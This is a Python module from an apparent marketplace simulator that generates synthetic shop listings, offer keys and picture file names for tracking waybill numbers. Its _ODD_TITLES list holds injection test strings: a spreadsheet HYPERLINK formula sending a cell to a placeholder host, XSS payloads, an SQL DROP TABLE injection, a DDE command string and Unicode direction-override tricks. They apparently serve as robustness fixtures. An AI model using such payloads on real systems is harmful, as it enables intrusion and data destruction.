"""Puts what a shop shows into words: ids, keys, texts as they are altered, names of picture files.

1. Ids and keys are drawn, so that none tells whose it is or what came first.
2. What stays the same keeps its words: a shop that changes its picture doesn't write its text anew.
"""

from wayseal_sim.market._appearances import Appearance
from wayseal_sim.market._grammars import Trade
from wayseal_sim.market._lives import ShopDraft
from wayseal_sim.market._texts import Contact, Rng, token, written
from wayseal_sim.market._types import Face, Offer, Picture, Seller, Shop, Shown

_STOCKED = (Trade.NUMBERS, Trade.LABELS)
_ODD_TITLES = (
    '=HYPERLINK("http://x.example/?"&A1,"点击")', "<script>alert(1)</script>", "\u202e号单递快\u202c",
    "'; DROP TABLE offers;--", "+cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "出\u200b单\u200b号",
)  # fmt: skip
_HEX = "0123456789abcdef"


def in_words(
    rng: Rng, draft: ShopDraft, seller: Seller, footer: str, odd: float, pictures: dict[str, Picture]
) -> tuple[Shop, tuple[Shown, ...]]:
    """A shop as its site shows it, and the known or invented numbers on it; adds its pictures' names to `pictures`.

    odd: how likely something strange stands before its titles. The numbers' `shop` is left at 0: whoever knows the
    shop's place fills it in.
    """
    return _Shop(rng, draft, seller, footer, odd, pictures).made()


class _Shop:
    """One shop, and what of it has words already."""

    def __init__(
        self, rng: Rng, draft: ShopDraft, seller: Seller, footer: str, odd: float, pictures: dict[str, Picture]
    ) -> None:
        self._rng, self._draft, self._seller, self._footer = rng, draft, seller, footer
        self._pictures = pictures
        self._names: dict[Picture, str] = {}
        self._texts: dict[object, tuple[str, str]] = {}
        self._odd = str(rng.choice(_ODD_TITLES)) if rng.random() < odd else ""
        many = max(len(look.adverts) for _, look in draft.shown)
        self._keys = [_key(rng, draft.site) for _ in range(many)]
        self._id = _shop_id(rng, draft.site)

    def made(self) -> tuple[Shop, tuple[Shown, ...]]:
        """The shop, and the numbers on it."""
        draft, seller = self._draft, self._seller
        weight = float(self._rng.lognormal(0, 1.0)) if seller.trade in _STOCKED else 0.0
        offers = tuple(
            Offer(key=key, faces=self._faces(k), weight=0.0 if k else weight) for k, key in enumerate(self._keys)
        )
        names: list[tuple[int, str]] = []
        for since, look in draft.shown:
            if not names or names[-1][1] != look.name:
                names.append((since, look.name))
        spans = tuple(draft.spans)
        shop = Shop(id=self._id, site=draft.site, seller=draft.seller, names=tuple(names), spans=spans, offers=offers)
        return shop, tuple(self._shown())

    def _faces(self, k: int) -> tuple[Face, ...]:
        """The faces of the k-th offer: a new one whenever something of it changes."""
        faces: list[Face] = []
        for since, look in self._draft.shown:
            title, text = self._worded(look, k)
            names = tuple(self._named(picture) for picture in look.pictures[k :: len(self._keys)])
            face = Face(since=since, title=title, text=text, yuan=look.adverts[k].yuan, pictures=names)
            if not faces or _content(faces[-1]) != _content(face):
                faces.append(face)
        return tuple(faces)

    def _worded(self, look: Appearance, k: int) -> tuple[str, str]:
        shared = (self._seller.shared,) if self._seller.shared else ()
        contacts: tuple[Contact, ...] = (*look.contacts, *shared)
        tests = look.tests if k == 0 else ()
        advert = look.adverts[k]
        known = (k, advert.title, advert.body, contacts, tests)
        if known not in self._texts:
            title, text = written(self._rng, advert, contacts, look.style, self._footer)
            if tests:
                text = f"{text}\n测试:{' '.join(tests)}"
            self._texts[known] = (self._odd + title, text)
        return self._texts[known]

    def _named(self, picture: Picture) -> str:
        if picture not in self._names:
            name = token(self._rng, 20, _HEX) + ".jpg"
            self._names[picture] = name
            self._pictures[name] = picture
        return self._names[picture]

    def _shown(self) -> list[Shown]:
        """Known numbers from when they were put up, invented ones from when their picture was."""
        known = {number.waybill for _, number, _ in self._draft.samples}
        out = [
            self._number(number.waybill, at, where, 0 if where == "text" else self._offer_of(number.waybill, at))
            for at, number, where in self._draft.samples
        ]
        seen: set[str] = set()
        for since, look in self._draft.shown:
            for place, picture in enumerate(look.pictures):
                if picture.number and picture.number not in known | seen:
                    seen.add(picture.number)
                    out.append(self._number(picture.number, since, "picture", place % len(self._keys)))
        return out

    def _offer_of(self, waybill: str, at: int) -> int:
        """Which offer's picture shows a number first."""
        looks = [look for since, look in self._draft.shown if since >= at]
        place = next((k for k, p in enumerate(looks[0].pictures) if p.number == waybill), 0) if looks else 0
        return place % len(self._keys)

    def _number(self, number: str, since: int, where: str, offer: int) -> Shown:
        known = next((n for _, n, _ in self._draft.samples if n.waybill == number), None)
        return Shown(number=number, shop=0, offer=self._keys[offer], since=since, where=where, known=known)


def _content(face: Face) -> tuple[object, ...]:
    return face.title, face.text, face.yuan, face.pictures


def _shop_id(rng: Rng, site: str) -> str:
    match site:
        case "arcade" | "forum":
            return str(int(rng.integers(10_000_000, 99_999_999)))
        case "chats":
            return "user" + str(int(rng.integers(10**9, 10**10)))
        case _:
            return "s" + token(rng, 9)


def _key(rng: Rng, site: str) -> str:
    if site in ("arcade", "forum"):
        return str(int(rng.integers(10**9, 10**10)))
    return token(rng, 12)
